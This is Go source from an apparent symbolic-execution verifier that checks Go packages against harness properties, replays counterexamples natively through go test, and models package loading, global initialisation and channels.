				continue
			}
			v := cj.viol[0]
			if cj.cfg.NoReplay {
				canaryOK++ // schedule/stub dependent: detection by the solver is what is checked
				continue
			}
			rid := fmt.Sprintf("canary-%s-%d-%d", sanitize(gr.tmp), len(batch[gr]), ci)
			batch[gr] = append(batch[gr], replayItem{ID: rid, Entry: cj.entry, Witness: nativeWitness(cj.cfg.Params, v.Nondets, v.Model, true)})
			pending[rid] = pend{kind: "canary", j: cj}
		}
	}
	// ---- candidates ----
	for i, c := range cands {
		if spec.Replay == "none" || c.j.cfg.NoReplay {
			continue
		}
		rid := fmt.Sprintf("cand-%d", i)
		batch[c.gr] = append(batch[c.gr], replayItem{ID: rid, Entry: c.j.entry, Witness: nativeWitness(c.j.cfg.Params, c.v.Nondets, c.v.Model, false)})
		pending[rid] = pend{kind: "cand", ci: i, j: c.j}
	}
	// ---- translator validation: concrete runs, engine vs native ----
	rng := rand.New(rand.NewSource(seed))
	type validRun struct {
		gr *groupRun
		j  *jobState
		w  NativeWitness
		id string
	}
	var vruns []validRun
	if spec.Replay != "none" {
		for _, gr := range groups {
			// up to 6 validation runs per group, spread over jobs
			n := 0
			for _, j := range gr.jobs {
				if n >= 6 {
					break
				}
				if len(j.viol) > 0 || len(j.inconcl) > 0 || j.cfg.NoReplay {
					continue
				}
				if rng.Intn(len(gr.jobs)) > 6 && n > 0 {
					continue
				}
				w := NativeWitness{Params: j.cfg.Params}
				for k := 0; k < 64; k++ {
					r := NativeRec{Kind: "any", Value: int64(rng.Intn(3))}
					for b := 0; b < 600; b++ {
						r.Vals = append(r.Vals, uint64(rng.Intn(256)))
					}
					if rng.Intn(3) == 0 {
						for b := range r.Vals {
							r.Vals[b] = uint64(32 + rng.Intn(65)) // uu alphabet / printable
						}
					}
					w.Nondets = append(w.Nondets, r)
				}
				rid := fmt.Sprintf("valid-%d-%d", len(vruns), n)
				vruns = append(vruns, validRun{gr, j, w, rid})
				batch[gr] = append(batch[gr], replayItem{ID: rid, Entry: j.entry, Witness: w})
				n++
			}
		}
	}
	// run the engine in concrete mode for validation runs
	engineObs := map[string]replayResult{}
	for _, vr := range vruns {
		ccfg := *vr.j.cfg
		ccfg.Concrete = &vr.w
		cj := &jobState{cfg: &ccfg, w: vr.gr.w, entry: vr.j.entry, outcomes: map[string]int{}, reaches: map[string]bool{}}
		runJobsCollect([]*jobState{cj}, 1, engineObs, vr.id)
	}
	results := map[string]replayResult{}
	for gr, items := range batch {
		if len(items) == 0 {
			continue
		}
		rs, err := nativeReplay(*repo, root, gr, items)
		if err != nil {
			engineFail = append(engineFail, "native replay failed to run: "+err.Error())
			continue
		}
		for k, v := range rs {
			results[k] = v
		}
	}
	for _, vr := range vruns {
		nat, ok := results[vr.id]
		eng, ok2 := engineObs[vr.id]
		if !ok || !ok2 {
			continue
		}
		if nat.Status == "assume-failed" && eng.Status == "pruned" {
			validated++
			continue
		}
		agree := (nat.Status == "pass") == (eng.Status == "ok") && strings.Join(nat.Reached, ",") == strings.Join(eng.Reached, ",") && strings.Join(nat.Observed, ",") == strings.Join(eng.Observed, ",")
		if agree {
			validated++
		} else {
			engineFail = append(engineFail, fmt.Sprintf("translator validation disagreement on %s%v: native=%v engine=%v", vr.j.entry, vr.j.cfg.Params, nat, eng))
		}
	}
	for rid, p := range pending {
		r, ok := results[rid]
		if !ok {
			if p.kind == "canary" {
				engineFail = append(engineFail, fmt.Sprintf("canary of %s was not replayed natively (no result)", p.j.entry))
			}
			continue
		}
		if p.kind == "canary" {
			if r.Status == "failed" || strings.HasPrefix(r.Status, "panic") {
				canaryOK++
			} else {
				engineFail = append(engineFail, fmt.Sprintf("canary counterexample of %s did not reproduce natively (status %s)", p.j.entry, r.Status))
			}
		}
	}

	// ---- classify candidates ----
	known := loadKnownFindings(filepath.Join(root, "KNOWN_FINDINGS.txt"))
	outDir := filepath.Join(root, "out", id)
	os.MkdirAll(outDir, 0o755)
	violations := 0
	var lines []string
	for i, c := range cands {
		rid := fmt.Sprintf("cand-%d", i)
		wpath := filepath.Join(outDir, fmt.Sprintf("%s-%d.json", sanitize(c.key), i))
		wit := map[string]interface{}{"property": id, "harness": c.j.entry, "params": c.j.cfg.Params, "label": c.v.Label, "kind": c.v.Kind, "detail": c.v.Detail,
			"pos": c.v.Pos, "pkg": c.gr.spec.Pkg, "harness_files": c.gr.spec.Harness, "witness": nativeWitness(c.j.cfg.Params, c.v.Nondets, c.v.Model, false), "decisions": c.v.Trace, "schedule": c.v.Sched, "events": c.v.Events}
		status := "symbolic-only"
		if spec.Replay != "none" && !c.j.cfg.NoReplay {
			replayed++
			r, ok := results[rid]
			switch {
			case !ok:
				status = "replay-did-not-run"
			case r.Status == "failed" || strings.HasPrefix(r.Status, "panic"):
				status = "reproduced"
				replayConfirmed++
			case c.v.Kind == "format":
				// engine-level obligation (a computed string in the format position of a printf-style
				// call): the harness may not assert the resulting text, so a passing native run does
				// not refute it
				status = "symbolic-only"
			case r.Status == "pass" && len(c.v.Sched) > 0:
				// the counterexample needs the goroutine switches recorded in the witness; an
				// ordinary native run follows the Go scheduler's interleaving, not that one, so
				// a passing run does not refute it (same standing as a no_replay entry)
				status = "symbolic-only:schedule-dependent"
			default:
				status = "not-reproduced:" + r.Status
			}
			wit["native_replay"] = map[string]interface{}{"status": status, "failures": results[rid].Failures}
		}
		b, _ := json.MarshalIndent(wit, "", " ")
		os.WriteFile(wpath, b, 0o644)
		if strings.HasPrefix(status, "not-reproduced") || status == "replay-did-not-run" {
			engineFail = append(engineFail, fmt.Sprintf("counterexample for %s does not reproduce natively (%s): encoding or stub is wrong; see %s", c.key, status, wpath))
			continue
		}
		if kf, ok := known[id+"|"+c.j.entry+"|"+c.v.Label]; ok {
			lines = append(lines, fmt.Sprintf("KNOWN-FINDING: property=%s %s", id, kf))
			continue
		}
		violations++
		lines = append(lines, fmt.Sprintf("VIOLATION property=%s replay=%s", id, wpath))
		lines = append(lines, fmt.Sprintf("  harness=%s params=%v label=%s kind=%s (%s) %s", c.j.entry, c.j.cfg.Params, c.v.Label, c.v.Kind, status, c.v.Detail))
	}
	// dedupe known-finding lines
	sort.Strings(lines)
	var ulines []string
	for i, l := range lines {
		if i == 0 || l != lines[i-1] {
			ulines = append(ulines, l)
		}
	}
	wall := time.Since(t0)

	// ---- evidence ----
	var fnames []string
	for _, gr := range groups {
		for _, h := range gr.spec.Harness {
			fnames = append(fnames, h)
		}
	}
	encoded := encodedFunctions(groups)
	solverInfo := map[string]interface{}{}
	totalQ := 0
	for k, s := range stats {
		solverInfo[k] = map[string]interface{}{"queries": s.Queries, "sat": s.Sat, "unsat": s.Unsat, "unknown": s.Unknown, "errors": s.Errors, "decided_by_second_solver": s.Rescued, "solver_time_s": round2(s.TimeS)}
		totalQ += s.Queries
	}
	var bounds []string
	for _, gr := range groups {
		specs := gr.spec.Quick
		if *tier == "thorough" && len(gr.spec.Thorough) > 0 {
			specs = gr.spec.Thorough
		}
		for _, js := range specs {
			b := js.Entry + ":"
			if len(js.Sweep) > 0 {
				b += fmt.Sprintf(" sweep=%v", js.Sweep)
			}
			if len(js.Params) > 0 {
				b += fmt.Sprintf(" params=%v", js.Params)
			}
			if js.Bounds != "" {
				b += " " + js.Bounds
			}
			bounds = append(bounds, b)
		}
	}
	cov := map[string]interface{}{
		"explanation":                    spec.Explain,
		"evaluations":                    paths,
		"distinct_nontrivial":            nontrivial,
		"rule":                           "one evaluation = one symbolic path of a harness instance, decided for all values of its symbolic inputs by the SMT solver; distinct_nontrivial = number of distinct harness instances (entry x parameter tuple) with at least one discharged obligation",
		"states":                         paths,
		"transitions":                    steps,
		"traces_validated_against_impl":  validated,
		"obligations":                    asserts + violations + inconcl,
		"discharged":                     asserts,
		"samples":                        samples,
		"harness_instances":              jobsRun,
		"forks":                          forks,
		"path_outcomes":                  outcomes,
		"inconclusive_instances":         inconcl,
		"inconclusive_details":           inconclMsgs,
		"solver":                         solverInfo,
		"solver_queries":                 totalQ,
		"functions_encoded":              encoded,
		"harness_files":                  fnames,
		"bounds":                         bounds,
		"outside_the_claim":              spec.Outside,
		"canaries_detected_and_replayed": fmt.Sprintf("%d/%d", canaryOK, canaryTotal),
		"counterexamples_replayed":       replayed,
		"counterexamples_reproduced":     replayConfirmed,
		"engine_failures":                engineFail,
		"exhaustive":                     false,
		"trusted_base":                   []string{"go/ssa (x/tools v0.29.0) lowering", "symgo interpreter and stubs (see DESIGN.md 2.5)", "z3 4.8.12 / cvc5 1.0", "harness reference models"},
	}
	ev := map[string]interface{}{
		"property_id": id, "tier": *tier, "seed": seed, "level": spec.Level, "coverage": cov,
		"assumptions": spec.Assumptions, "wall_s": round2(wall.Seconds()), "violations": violations,
	}
	eb, _ := json.MarshalIndent(ev, "", " ")
	os.MkdirAll(filepath.Join(root, evidenceDir), 0o755)
	os.WriteFile(filepath.Join(root, evidenceDir, id+".json"), eb, 0o644)

	if *verbose {
		sort.Slice(allJobs, func(a, b int) bool { return allJobs[a].wall > allJobs[b].wall })
		for i, j := range allJobs {
			if i >= 8 {
				break
			}
			fmt.Printf("  slow: %s%v paths=%d wall=%.1fs\n", j.entry, j.cfg.Params, j.paths, j.wall.Seconds())
		}
	}
	fmt.Printf("check %s tier=%s: instances=%d paths=%d obligations discharged=%d violations=%d inconclusive=%d canaries=%d/%d validated=%d queries=%d wall=%.1fs\n",
		id, *tier, jobsRun, paths, asserts, violations, inconcl, canaryOK, canaryTotal, validated, totalQ, wall.Seconds())
	for _, l := range ulines {
		fmt.Println(l)
	}
	if violations > 0 {
		return 1
	}
	for _, j := range allJobs {
		if j.stopped && !j.cfg.Canary {
			engineFail = append(engineFail, fmt.Sprintf("%s%v: exploration was cut short after %d candidates, none of which was confirmed", j.entry, j.cfg.Params, j.counted))
		}
	}
	if len(engineFail) > 0 {
		for _, e := range engineFail {
			fmt.Println("ENGINE-ERROR:", e)
		}
		return 2
	}
	if inconcl > 0 {
		for _, m := range inconclMsgs {
			fmt.Println("INCONCLUSIVE:", m)
		}
		return 2
	}
	return 0
}

// evidenceDir: evidence/ for runs against /repo; runs against another tree (--repo, used by the
// self-test over seeded changes) must not overwrite it.
var evidenceDir = "evidence"

func round2(f float64) float64 { return float64(int(f*100+0.5)) / 100 }

func flagSet(fs *flag.FlagSet, name string) bool {
	found := false
	fs.Visit(func(f *flag.Flag) {
		if f.Name == name {
			found = true
		}
	})
	return found
}

func instantiate(tmpl, out, pkg string) error {
	b, err := os.ReadFile(tmpl)
	if err != nil {
		return err
	}
	b = bytes.Replace(b, []byte("package PKG"), []byte("package "+pkg), 1)
	return os.WriteFile(out, b, 0o644)
}

func writeEvidenceError(root, id, tier string, seed int64, spec CheckSpec, msg string, wall time.Duration) {
	ev := map[string]interface{}{
		"property_id": id, "tier": tier, "seed": seed, "level": spec.Level,
		"coverage": map[string]interface{}{"explanation": "check could not run: " + msg, "evaluations": 0, "distinct_nontrivial": 0, "samples": []string{msg}},
		"wall_s":   round2(wall.Seconds()), "violations": 0,
	}
	eb, _ := json.MarshalIndent(ev, "", " ")
	os.MkdirAll(filepath.Join(root, evidenceDir), 0o755)
	os.WriteFile(filepath.Join(root, evidenceDir, id+".json"), eb, 0o644)
}

// runJobsCollect runs jobs and stores outcome/reach/observe info under id.
func runJobsCollect(jobs []*jobState, workers int, into map[string]replayResult, id string) {
	for _, j := range jobs {
		s, err := NewSolver(j.cfg.Solver, j.cfg.TimeoutMs)
		if err != nil {
			continue
		}
		in := newInterp(j.w, s, j.cfg, nil)
		res := in.runPath(j.w.pkg.Func(j.entry))
		s.Close()
		r := replayResult{Status: res.Outcome, Reached: nil, Observed: res.Observed}
		if len(res.Violations) > 0 {
			r.Status = "failed"
		}
		// reach labels in order of first occurrence are not tracked; use sorted set
		r.Reached = sortedKeys(res.Reaches)
		into[id] = r
	}
}

var replayLineRe = regexp.MustCompile(`^REPLAY-RESULT id=(\S+) status=(\S+) failures=(\S*) reached=(\S*) observed=(\S*)`)

// nativeReplay compiles the harness natively (overlay) and runs the batch.
func nativeReplay(repo, root string, gr *groupRun, items []replayItem) (map[string]replayResult, error) {
	dir := filepath.Join(gr.tmp, "native")
	os.MkdirAll(dir, 0o755)
	overlay := map[string]string{}
	pkgDir := filepath.Join(repo, gr.spec.Pkg)
	nat := filepath.Join(dir, "native.go")
	if err := instantiate(filepath.Join(root, "harness/common/verif_native.go.tmpl"), nat, gr.pkgName); err != nil {
		return nil, err
	}
	overlay[filepath.Join(pkgDir, "zz_verif_native.go")] = nat
	for _, api := range gr.spec.API {
		n2 := filepath.Join(dir, "native_"+api+".go")
		if err := instantiate(filepath.Join(root, "harness/common/verif_native_"+api+".go.tmpl"), n2, gr.pkgName); err != nil {
			return nil, err
		}
		overlay[filepath.Join(pkgDir, "zz_verif_native_"+api+".go")] = n2
	}
	tst := filepath.Join(dir, "replay_test.go")
	if err := instantiate(filepath.Join(root, "harness/common/replay_test.go.tmpl"), tst, gr.pkgName); err != nil {
		return nil, err
	}
	overlay[filepath.Join(pkgDir, "zz_verif_replay_test.go")] = tst
	var entries []string
	entryRe := regexp.MustCompile(`(?m)^func (Harness\w*)\(\)`)
	for _, f := range gr.files {
		overlay[filepath.Join(pkgDir, "zz_verif_"+filepath.Base(f))] = f
		b, _ := os.ReadFile(f)
		for _, m := range entryRe.FindAllSubmatch(b, -1) {
			entries = append(entries, string(m[1]))
		}
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "package %s\n\nvar verifHarnesses = map[string]func(){\n", gr.pkgName)
	for _, e := range entries {
		fmt.Fprintf(&sb, "\t%q: %s,\n", e, e)
	}
	sb.WriteString("}\n")
	regf := filepath.Join(dir, "registry.go")
	os.WriteFile(regf, []byte(sb.String()), 0o644)
	overlay[filepath.Join(pkgDir, "zz_verif_registry.go")] = regf
	ob, _ := json.Marshal(map[string]interface{}{"Replace": overlay})
	of := filepath.Join(dir, "overlay.json")
	os.WriteFile(of, ob, 0o644)
	bf := filepath.Join(dir, "batch.json")
	bb, _ := json.Marshal(items)
	os.WriteFile(bf, bb, 0o644)
	pat := "./" + gr.spec.Pkg
	if gr.spec.Pkg == "." || gr.spec.Pkg == "" {
		pat = "."
	}
	sortedItems(items)
	cmd := exec.Command("go", "test", "-vet=off", "-count=1", "-timeout", "90s", "-overlay", of, "-run", "^TestVerifReplay$", "-v", pat)
	cmd.Dir = repo
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local", "VERIF_BATCH="+bf)
	out, err := cmd.CombinedOutput()
	res := map[string]replayResult{}
	sc := bufio.NewScanner(bytes.NewReader(out))
	sc.Buffer(make([]byte, 1<<20), 1<<26)
	for sc.Scan() {
		m := replayLineRe.FindStringSubmatch(sc.Text())
		if m == nil {
			continue
		}
		split := func(s string) []string {
			if s == "" {
				return nil
			}
			return strings.Split(s, ",")
		}
		r := replayResult{Status: m[2], Failures: split(m[3]), Reached: split(m[4]), Observed: split(m[5])}
		sort.Strings(r.Reached)
		r.Reached = uniq(r.Reached)
		res[m[1]] = r
	}
	if len(res) == 0 {
		tail := string(out)
		if len(tail) > 1500 {
			tail = tail[len(tail)-1500:]
		}
		return nil, fmt.Errorf("go test produced no replay results (err=%v): %s", err, tail)
	}
	return res, nil
}

func uniq(s []string) []string {
	var r []string
	for i, x := range s {
		if i == 0 || x != s[i-1] {
			r = append(r, x)
		}
	}
	return r
}

func sortedItems(items []replayItem) {}

func loadKnownFindings(path string) map[string]string {
	m := map[string]string{}
	b, err := os.ReadFile(path)
	if err != nil {
		return m
	}
	re := regexp.MustCompile(`^finding:\s+property=(\S+)\s+harness=(\S+)\s+label=(\S+)\s*(.*)$`)
	for _, l := range strings.Split(string(b), "\n") {
		if mm := re.FindStringSubmatch(strings.TrimSpace(l)); mm != nil {
			m[mm[1]+"|"+mm[2]+"|"+mm[3]] = fmt.Sprintf("harness=%s label=%s %s", mm[2], mm[3], mm[4])
		}
	}
	return m
}

func encodedFunctions(groups []*groupRun) []string {
	set := map[string]bool{}
	for _, gr := range groups {
		gr.w.imu.Lock()
		for f, n := range gr.w.instrs {
			set[fmt.Sprintf("%s (%d SSA instrs)", f, n)] = true
		}
		gr.w.imu.Unlock()
	}
	var r []string
	for f := range set {
		r = append(r, f)
	}
	sort.Strings(r)
	if len(r) > 120 {
		r = append(r[:120], fmt.Sprintf("... and %d more", len(r)-120))
	}
	return r
}

func labelBelongs(prefixes []string, label string) bool {
	if len(prefixes) == 0 {
		return true
	}
	for _, p := range prefixes {
		if strings.HasPrefix(label, p) {
			return true
		}
	}
	return false
}
