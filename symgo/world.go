package main

// world.go - loading /repo with harness overlays, global initialisation, callee policy.

import (
	"fmt"
	"go/ast"
	"go/types"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"

	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
	"golang.org/x/tools/go/ssa/ssautil"
)

type World struct {
	prog   *ssa.Program
	pkg    *ssa.Package // package under check (with harness)
	ppkg   *packages.Package
	stubs  map[string]*ssa.Function // callee name -> harness replacement
	real   map[string]bool          // forced-real callees
	embeds map[string]string        // global name (pkgpath.Name) -> embedded content
	allPk  []*packages.Package
	repo   string
	instrs map[string]int // encoded function -> instruction count (filled during runs)
	imu    sync.Mutex
}

func (w *World) noteFuncs(fs map[*ssa.Function]bool) {
	w.imu.Lock()
	defer w.imu.Unlock()
	for f := range fs {
		name := f.String()
		if _, ok := w.instrs[name]; ok {
			continue
		}
		n := 0
		for _, b := range f.Blocks {
			n += len(b.Instrs)
		}
		w.instrs[name] = n
	}
}

var stubRe = regexp.MustCompile(`(?m)^//verif:stub\s+(\S+)\s+(\S+)`)
var realRe = regexp.MustCompile(`(?m)^//verif:real\s+(\S+)`)

// LoadWorld loads pkgPattern (relative to repo) with the harness files overlaid into pkgDir.
func LoadWorld(repo, pkgRel string, harnessFiles []string, tags string) (*World, error) {
	overlay := map[string][]byte{}
	pkgDir := filepath.Join(repo, pkgRel)
	var directives string
	for _, hf := range harnessFiles {
		b, err := os.ReadFile(hf)
		if err != nil {
			return nil, err
		}
		directives += string(b) + "\n"
		overlay[filepath.Join(pkgDir, "zz_verif_"+filepath.Base(hf))] = b
	}
	cfg := &packages.Config{
		Mode:    packages.LoadAllSyntax | packages.NeedModule,
		Dir:     repo,
		Overlay: overlay,
		Env:     append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local"),
	}
	if tags != "" {
		cfg.BuildFlags = []string{"-tags", tags}
	}
	pat := "./" + pkgRel
	if pkgRel == "." || pkgRel == "" {
		pat = "."
	}
	pkgs, err := packages.Load(cfg, pat)
	if err != nil {
		return nil, err
	}
	if len(pkgs) != 1 {
		return nil, fmt.Errorf("expected one package for %s, got %d", pat, len(pkgs))
	}
	var errs []string
	packages.Visit(pkgs, nil, func(p *packages.Package) {
		for _, e := range p.Errors {
			// bodiless harness declarations are fine
			if strings.Contains(e.Msg, "missing function body") {
				continue
			}
			errs = append(errs, e.Error())
		}
	})
	if len(errs) > 0 {
		return nil, fmt.Errorf("package errors: %s", strings.Join(errs, "; "))
	}
	prog, spkgs := ssautil.AllPackages(pkgs, ssa.InstantiateGenerics)
	prog.Build()
	w := &World{prog: prog, pkg: spkgs[0], ppkg: pkgs[0], stubs: map[string]*ssa.Function{}, real: map[string]bool{}, embeds: map[string]string{}, repo: repo, instrs: map[string]int{}}
	if w.pkg == nil {
		return nil, fmt.Errorf("no SSA package for %s", pat)
	}
	for _, m := range stubRe.FindAllStringSubmatch(directives, -1) {
		f := w.pkg.Func(m[2])
		if f == nil {
			return nil, fmt.Errorf("stub directive: harness function %s not found", m[2])
		}
		w.stubs[m[1]] = f
	}
	for _, m := range realRe.FindAllStringSubmatch(directives, -1) {
		w.real[m[1]] = true
	}
	// embeds
	packages.Visit(pkgs, nil, func(p *packages.Package) {
		if p.Module == nil || !p.Module.Main {
			return
		}
		for _, f := range p.Syntax {
			for _, d := range f.Decls {
				gd, ok := d.(*ast.GenDecl)
				if !ok || gd.Doc == nil {
					continue
				}
				for _, c := range gd.Doc.List {
					if strings.HasPrefix(c.Text, "//go:embed ") {
						fn := strings.TrimSpace(strings.TrimPrefix(c.Text, "//go:embed "))
						for _, s := range gd.Specs {
							vs, ok := s.(*ast.ValueSpec)
							if !ok {
								continue
							}
							dir := filepath.Dir(p.Fset.Position(f.Pos()).Filename)
							b, err := os.ReadFile(filepath.Join(dir, fn))
							if err == nil {
								w.embeds[p.PkgPath+"."+vs.Names[0].Name] = string(b)
							}
						}
					}
				}
			}
		}
	})
	return w, nil
}

// packages whose code is never executed for real (must be stubbed / modelled)
var deniedPkgs = []string{
	"net/http", "net", "os", "os/exec", "os/signal", "syscall", "crypto/", "reflect", "runtime",
	"log", "log/slog", "text/template", "html/template", "time", "internal/poll", "internal/reflectlite",
	"github.com/magisterquis/goxterm", "encoding/pem", "encoding/base64", "math/rand", "math/big", "flag",
	"golang.org/x/net/idna", "golang.org/x/text", "text/tabwriter", "fmt", "net/netip", "context", "sync", "sync/atomic",
	"unsafe", "internal/bytealg", "internal/abi", "internal/godebug", "golang.org/x/sys",
}

var allowedFns = map[string]bool{
	"(net/http.Header).Get": true, "(net/url.Values).Get": true, "(net/http.Header).Set": true,
	"(net/http.Header).Add": true, "(net/http.Header).Values": true, "(net/http.Header).Del": true,
	"net/textproto.CanonicalMIMEHeaderKey": true, "(net/textproto.MIMEHeader).Get": true,
	"(net/textproto.MIMEHeader).Set": true, "(net/textproto.MIMEHeader).Add": true, "(net/textproto.MIMEHeader).Values": true,
	"(*fmt.wrapError).Unwrap": true, "(*net.OpError).Unwrap": true, "(*io/fs.PathError).Unwrap": true, "(*io/fs.PathError).Error": true, "(*os.SyscallError).Unwrap": true, "(*fmt.wrapError).Error": true, "(*fmt.wrapErrors).Unwrap": true, "(*fmt.wrapErrors).Error": true,
	"(*net/http.Request).Context": true, "(*net/http.Request).PathValue": true, "(*net/http.Request).SetPathValue": true,
	"(*net/http.Request).patIndex": true, "(*net/http.Request).WithContext": true, "(*net/http.Request).UserAgent": true,
	"(os.FileMode).IsRegular": true, "(os.FileMode).IsDir": true, "(io/fs.FileMode).IsRegular": true, "(io/fs.FileMode).IsDir": true,
	"(io/fs.FileMode).Type": true, "(io/fs.FileMode).Perm": true,
	"(crypto/subtle).ConstantTimeCompare": true, "crypto/subtle.ConstantTimeCompare": true, "crypto/subtle.ConstantTimeByteEq": true,
	"crypto/subtle.ConstantTimeEq": true,
	"(*sync.Once).Do":              false,
}

func (w *World) denied(name string) bool {
	if w.real[name] {
		return false
	}
	if v, ok := allowedFns[name]; ok {
		return !v
	}
	if strings.HasSuffix(name, "$bound") || strings.HasSuffix(name, "$thunk") {
		return false // synthetic forwarding wrappers: the real target is resolved (and policed) when they call it
	}
	if strings.HasPrefix(name, "sync.OnceFunc") || strings.HasPrefix(name, "sync.OnceValue") {
		return false
	}
	p := pkgOfFuncName(name)
	if p == "net/textproto" || p == "net/url" {
		return false
	}
	for _, d := range deniedPkgs {
		if p == d || (strings.HasSuffix(d, "/") && strings.HasPrefix(p, d)) || strings.HasPrefix(p, d+"/") {
			return true
		}
	}
	return false
}

// pkgOfFuncName extracts the package path from an ssa function name such as
// "(*net/http.Request).Context" or "strings.Split" or "slices.Chunk[[]byte]$1".
func pkgOfFuncName(name string) string {
	s := name
	s = strings.TrimPrefix(s, "(")
	s = strings.TrimPrefix(s, "*")
	// cut at first '.' after the last '/'
	slash := strings.LastIndex(s, "/")
	if br := strings.IndexAny(s, "[)"); br >= 0 && br < slash {
		slash = strings.LastIndex(s[:br], "/")
	}
	rest := s[slash+1:]
	dot := strings.Index(rest, ".")
	if dot < 0 {
		return s
	}
	return s[:slash+1+dot]
}

// ---------- global initialisation ----------

// initGlobal evaluates the slice of the package initialiser that computes gl.
func (in *Interp) initGlobal(gl *ssa.Global, c *Cell) {
	key := gl.Pkg.Pkg.Path() + "." + gl.Name()
	if s, ok := in.w.embeds[key]; ok {
		c.V = strConst(s)
		return
	}
	if h, ok := globalInits[key]; ok {
		h(in, c)
		return
	}
	initFn := gl.Pkg.Func("init")
	if initFn == nil || initFn.Blocks == nil {
		return
	}
	// collect instructions of init in block order
	var all []ssa.Instruction
	for _, b := range initFn.Blocks {
		all = append(all, b.Instrs...)
	}
	needed := map[ssa.Instruction]bool{}
	var addVal func(v ssa.Value)
	addVal = func(v ssa.Value) {
		i, ok := v.(ssa.Instruction)
		if !ok {
			return
		}
		if needed[i] {
			return
		}
		needed[i] = true
		var ops []*ssa.Value
		for _, op := range i.Operands(ops) {
			if *op != nil {
				addVal(*op)
			}
		}
		// stores into an allocation we need
		if _, isAlloc := i.(*ssa.Alloc); isAlloc {
			markStoresInto(v, needed, addVal)
		}
		switch i.(type) {
		case *ssa.MakeMap, *ssa.MakeSlice, *ssa.FieldAddr, *ssa.IndexAddr:
			markStoresInto(v, needed, addVal)
		}
	}
	found := false
	for _, i := range all {
		if st, ok := i.(*ssa.Store); ok && st.Addr == ssa.Value(gl) {
			needed[st] = true
			addVal(st.Val)
			found = true
		}
		// element-wise initialisation: &gl[i] / &gl.f rooted directly at the global
		switch x := i.(type) {
		case *ssa.IndexAddr:
			if x.X == ssa.Value(gl) {
				addVal(x)
				found = true
			}
		case *ssa.FieldAddr:
			if x.X == ssa.Value(gl) {
				addVal(x)
				found = true
			}
		}
	}
	if !found {
		return // zero value
	}
	g := in.cur
	if g == nil {
		g = in.gors[0]
	}
	fr := &Frame{fn: initFn, env: map[ssa.Value]Value{}, block: initFn.Blocks[0]}
	in.inSync++
	defer func() { in.inSync-- }()
	for _, i := range all {
		if !needed[i] {
			continue
		}
		switch x := i.(type) {
		case *ssa.Store:
			addr := in.get(fr, x.Addr).(*PtrV)
			if x.Addr == ssa.Value(gl) {
				addr = &PtrV{C: c}
			}
			addr.C.setDirect(in.get(fr, x.Val))
		case *ssa.MapUpdate:
			m := in.get(fr, x.Map).(*MapV)
			in.mapUpdate(m.M, in.get(fr, x.Key), in.get(fr, x.Value))
		case *ssa.Call:
			fv, args, ok := in.resolveCallee(g, fr, &x.Call, "")
			if !ok {
				panic(engineErr("panic while initialising global " + key))
			}
			fr.env[x] = in.callSync(g, fv, args)
		case *ssa.Phi:
			panic(engineErr("phi in initialiser slice of " + key))
		case ssa.Value:
			g.stack = append(g.stack, fr)
			v, ok := in.evalValueInstr(g, fr, x)
			g.stack = g.stack[:len(g.stack)-1]
			if !ok {
				panic(engineErr("panic while initialising global " + key))
			}
			fr.env[x] = v
		}
	}
}

func markStoresInto(v ssa.Value, needed map[ssa.Instruction]bool, addVal func(ssa.Value)) {
	refs := v.Referrers()
	if refs == nil {
		return
	}
	for _, r := range *refs {
		switch x := r.(type) {
		case *ssa.Store:
			if x.Addr == v && !needed[x] {
				needed[x] = true
				addVal(x.Val)
			}
		case *ssa.MapUpdate:
			if x.Map == v && !needed[x] {
				needed[x] = true
				addVal(x.Key)
				addVal(x.Value)
			}
		case *ssa.FieldAddr:
			if x.X == v {
				addVal(x)
			}
		case *ssa.IndexAddr:
			if x.X == v {
				addVal(x)
			}
		case *ssa.Slice:
			if x.X == v {
				addVal(x)
			}
		}
	}
}

var globalInits = map[string]func(in *Interp, c *Cell){}

func lookupType(prog *ssa.Program, pkgPath, name string) types.Type {
	p := prog.ImportedPackage(pkgPath)
	if p == nil {
		return nil
	}
	m := p.Members[name]
	if t, ok := m.(*ssa.Type); ok {
		return t.Type()
	}
	return nil
}
