package main

// chan.go - channels and select.
//
// Buffered channels: FIFO buffer with capacity.  Unbuffered channels: a plain send registers
// the value and parks until a receiver takes it; a select-send is ready only when a receiver
// is parked on the channel, and delivers directly to that receiver.

import (
	"fmt"
	"go/types"

	"golang.org/x/tools/go/ssa"
)

type ChanObj struct {
	cap         int
	buf         []Value
	closed      bool
	id          int
	elem        types.Type
	name        string
	sendersWait []*chanSender
	recvq       []*Goroutine
}

type chanSender struct {
	g    *Goroutine
	v    Value
	done bool
}

type handoffRec struct {
	c *ChanObj
	v Value
}

func (in *Interp) chanName(c *ChanObj) string {
	if c.name != "" {
		return c.name
	}
	return fmt.Sprintf("chan#%d", c.id)
}

func (c *ChanObj) freeReceivers() []*Goroutine {
	var r []*Goroutine
	for _, g := range c.recvq {
		if g.handoff == nil && g.status == gBlocked {
			r = append(r, g)
		}
	}
	return r
}

func (c *ChanObj) canSelectSend() bool {
	if c.closed {
		return true // will panic
	}
	if c.cap > 0 {
		return len(c.buf) < c.cap
	}
	return len(c.freeReceivers()) > 0
}

func (c *ChanObj) canRecvNow() bool {
	if len(c.buf) > 0 || c.closed {
		return true
	}
	for _, s := range c.sendersWait {
		if !s.done {
			return true
		}
	}
	return false
}

func (c *ChanObj) takeRecv() (Value, bool) {
	if len(c.buf) > 0 {
		v := c.buf[0]
		c.buf = c.buf[1:]
		return v, true
	}
	for _, s := range c.sendersWait {
		if !s.done {
			s.done = true
			return s.v, true
		}
	}
	return nil, false // closed
}

func (g *Goroutine) unregisterRecv() {
	for _, c := range g.recvRegs {
		for i, x := range c.recvq {
			if x == g {
				c.recvq = append(c.recvq[:i:i], c.recvq[i+1:]...)
				break
			}
		}
	}
	g.recvRegs = nil
}

func (g *Goroutine) registerRecv(c *ChanObj) {
	c.recvq = append(c.recvq, g)
	g.recvRegs = append(g.recvRegs, c)
}

func (in *Interp) doSend(g *Goroutine, fr *Frame, x *ssa.Send) int {
	if in.syncPoint(g) {
		return stYield
	}
	cv := in.get(fr, x.Chan).(*ChanV)
	v := in.get(fr, x.X)
	st := in.sendOn(g, cv.C, v, in.posOf(x))
	if st == stOK && g.panicking == nil {
		fr.pc++
	}
	return st
}

